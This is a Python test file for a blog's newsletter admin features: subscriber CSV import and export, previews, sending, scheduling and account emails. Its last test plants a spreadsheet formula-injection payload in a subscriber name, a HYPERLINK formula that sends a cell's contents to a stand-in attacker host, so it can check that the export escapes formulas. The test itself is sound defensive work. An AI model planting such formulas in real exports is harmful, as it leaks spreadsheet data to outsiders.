"""Admin pages: subscribers, CSV export/import, removal, preview, send now, schedule; account emails."""
from __future__ import annotations

import csv
import io
from datetime import datetime, timedelta

from blog.accounts.models import Role
from blog.core.time import UTC
from blog.extensions import db
from blog.newsletter import services
from blog.newsletter.models import Delivery, Mailing, NewsletterSettings, Subscriber
from tests.factories import make_post, make_user
from tests.newsletter.conftest import add_subscribers


def _admin_client(app, role=Role.ADMIN):
    client = app.test_client()
    with app.app_context():
        user = make_user(role)
        email = user.email
    client.post("/login", data={"email": email, "password": "correct horse battery"})
    return client


def _upload(client, text: str):
    return client.post("/newsletter/admin/subscribers/import",
                       data={"csv_file": (io.BytesIO(text.encode()), "people.csv")},
                       content_type="multipart/form-data")


def test_pages_need_the_right_role(app):
    assert app.test_client().get("/newsletter/admin/").status_code == 302
    author = _admin_client(app, Role.AUTHOR)
    assert author.get("/newsletter/admin/").status_code == 403
    editor = _admin_client(app, Role.EDITOR)
    assert editor.get("/newsletter/admin/").status_code == 200
    assert editor.get("/newsletter/admin/subscribers").status_code == 403
    assert editor.get("/newsletter/admin/subscribers.csv").status_code == 403


def test_csv_import_all_or_nothing_with_errors_per_line(app):
    client = _admin_client(app)
    bad = ("email,name,consent,receives\n"
           "good@example.org,Good,signed up at workshop,both\n"
           "not-an-address,X,paper form,both\n"
           "noconsent@example.org,Y,,digest\n"
           "good@example.org,Again,form,both\n"
           "weird@example.org,Z,form,everything\n")
    response = _upload(client, bad)
    assert response.status_code == 400
    page = response.get_data(as_text=True)
    for line in ("Line 3:", "Line 4:", "Line 5:", "Line 6:"):
        assert line in page
    assert "Line 2:" not in page
    with app.app_context():
        assert db.session.execute(db.select(Subscriber)).first() is None  # nothing half-imported
    missing = _upload(client, "email,name\na@example.org,A\n")
    assert missing.status_code == 400 and "consent" in missing.get_data(as_text=True)
    good = _upload(client, "Email,Name,Consent,consented_at\nA@Example.org,Ann,paper form,2025-03-12\n")
    assert good.status_code == 302
    with app.app_context():
        subscriber = db.session.execute(db.select(Subscriber)).scalar_one()
        assert subscriber.email == "a@example.org" and subscriber.status == "subscribed"
        assert "paper form" in subscriber.consent_method and subscriber.consent_at.year == 2025


def test_export_list_and_remove_for_good(app):
    client = _admin_client(app)
    with app.app_context():
        add_subscribers(2)
    listing = client.get("/newsletter/admin/subscribers")
    assert listing.status_code == 200 and b"reader1@example.org" in listing.data
    export = client.get("/newsletter/admin/subscribers.csv")
    rows = list(csv.DictReader(io.StringIO(export.get_data(as_text=True))))
    assert [r["email"] for r in rows] == ["reader0@example.org", "reader1@example.org"]
    assert rows[0]["consent"] == "test" and rows[0]["status"] == "subscribed"
    with app.app_context():
        sub_id = db.session.execute(db.select(Subscriber.id).where(Subscriber.email == "reader0@example.org")).scalar()
    assert client.post(f"/newsletter/admin/subscribers/{sub_id}/remove").status_code == 302
    with app.app_context():
        assert db.session.get(Subscriber, sub_id) is None


def test_preview_send_now_progress_and_test_send(mail_app, smtp_server):
    client = _admin_client(mail_app, Role.EDITOR)
    with mail_app.app_context():
        [subscriber] = add_subscribers(1)
        make_post(make_user(), title="Fresh findings")
        sub_id = subscriber.id
    client.post("/newsletter/admin/note", data={"editor_note": "Welcome to *spring*."})
    preview = client.get(f"/newsletter/admin/preview?subscriber={sub_id}")
    assert preview.status_code == 200
    assert b"Fresh findings" in preview.data and b"Welcome to spring." in preview.data  # plain text, not Markdown
    frame = client.get(f"/newsletter/admin/preview.html?subscriber={sub_id}")
    assert b"<em>spring</em>" in frame.data and b"/newsletter/unsubscribe/" not in frame.data  # an editor: placeholder links
    assert "frame-ancestors 'self'" in frame.headers["Content-Security-Policy"]
    sent = client.post("/newsletter/admin/test", data={"address": "editor@example.net"})
    assert sent.status_code == 302
    [test_message] = smtp_server.messages("editor@example.net")
    assert test_message["Subject"].startswith("[Test] ")
    queued = client.post("/newsletter/admin/send-now")
    assert queued.status_code == 302
    progress = client.get(queued.headers["Location"])
    assert b"Waiting or retrying: 1" in progress.data
    with mail_app.app_context():
        assert db.session.get(NewsletterSettings, 1).editor_note == ""  # used by this digest
    again = client.post("/newsletter/admin/send-now", follow_redirects=True)
    assert b"Nothing new since the last digest" in again.data


def test_email_this_post(mail_app, smtp_server):
    client = _admin_client(mail_app, Role.EDITOR)
    with mail_app.app_context():
        add_subscribers(1, prefix="d", receives="digest")
        add_subscribers(1, prefix="e", receives="events")
        post = make_post(make_user(), title="Big announcement")
        post_id = post.id
    response = client.post(f"/newsletter/admin/posts/{post_id}/email")
    assert response.status_code == 302
    with mail_app.app_context():
        mailing = db.session.execute(db.select(Mailing)).scalar_one()
        assert mailing.kind == "post" and mailing.subject == "Big announcement" and mailing.recipient_count == 1
        assert db.session.execute(db.select(Delivery).join(Delivery.subscriber)).scalar_one().subscriber.email == \
            "d0@example.org"


def test_schedule_runs_each_slot_once(app):
    client = _admin_client(app, Role.EDITOR)
    response = client.post("/newsletter/admin/schedule", data={"frequency": "weekly", "weekday": "0",
                                                                "send_time": "09:00", "reply_to": ""})
    assert response.status_code == 302
    with app.test_request_context():
        settings = services.newsletter_settings()
        assert settings.frequency == "weekly"
        monday = datetime(2026, 3, 2, 9, 0, tzinfo=UTC)  # 09:00 in London = 09:00 UTC in March
        settings.last_slot_at = monday - timedelta(days=7)
        add_subscribers(1)
        make_post(make_user(), title="Before the slot", published_at=monday - timedelta(days=2))
        message, mailing = services.queue_due_digest(now=monday - timedelta(minutes=1))
        assert mailing is None and "Nothing due" in message
        message, mailing = services.queue_due_digest(now=monday + timedelta(minutes=5))
        assert mailing is not None and mailing.recipient_count == 1
        message, again = services.queue_due_digest(now=monday + timedelta(minutes=20))
        assert again is None
        summer = datetime(2026, 7, 6, 8, 0, tzinfo=UTC)  # 09:00 BST
        assert services.latest_slot(summer, settings) == summer
        db.session.commit()


def test_run_and_send_dry_run_commands(app, runner):
    with app.app_context():
        add_subscribers(1)
        make_post(make_user(), title="CLI news")
    dry = runner.invoke(args=["newsletter", "send", "--dry-run"])
    assert "CLI news" in dry.output and "would be sent" in dry.output
    with app.app_context():
        assert db.session.execute(db.select(Mailing)).first() is None
    assert "schedule is off" in runner.invoke(args=["newsletter", "run"]).output
    sent = runner.invoke(args=["newsletter", "send"])
    assert "queued for 1" in sent.output
    worker = runner.invoke(args=["newsletter", "worker", "--once"])
    assert "sent 1" in worker.output and "Messages were written to" in worker.output


def test_invitation_and_password_reset_are_emailed(mail_app, smtp_server):
    client = _admin_client(mail_app)
    response = client.post("/admin/people", data={"email": "new@example.org", "role": "author"})
    assert response.status_code == 200 and b"emailed to them" in response.data
    [invitation] = smtp_server.messages("new@example.org")
    link = [line for line in invitation.get_content().split() if "/invitation/" in line][0]
    assert link in response.get_data(as_text=True)
    with mail_app.app_context():
        person = make_user(Role.AUTHOR, email="writer@example.org")
        person_id = person.id
    reset = client.post(f"/admin/people/{person_id}/reset-link")
    assert b"was emailed" in reset.data
    [message] = smtp_server.messages("writer@example.org")
    assert "/reset-password/" in message.get_content()


def test_subscriber_export_escapes_formulas(app):
    client = _admin_client(app)
    with app.app_context():
        [subscriber] = add_subscribers(1)
        subscriber.name = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
        subscriber.tags = "@SUM(1), -2"
        db.session.commit()
    export = client.get("/newsletter/admin/subscribers.csv")
    assert export.headers["Cache-Control"] == "no-store"
    [row] = list(csv.DictReader(io.StringIO(export.get_data(as_text=True))))
    assert row["name"] == '\'=HYPERLINK("https://evil.example/?"&A1,"Click")'
    assert row["tags"] == "'@SUM(1), -2" and row["email"] == "reader0@example.org"
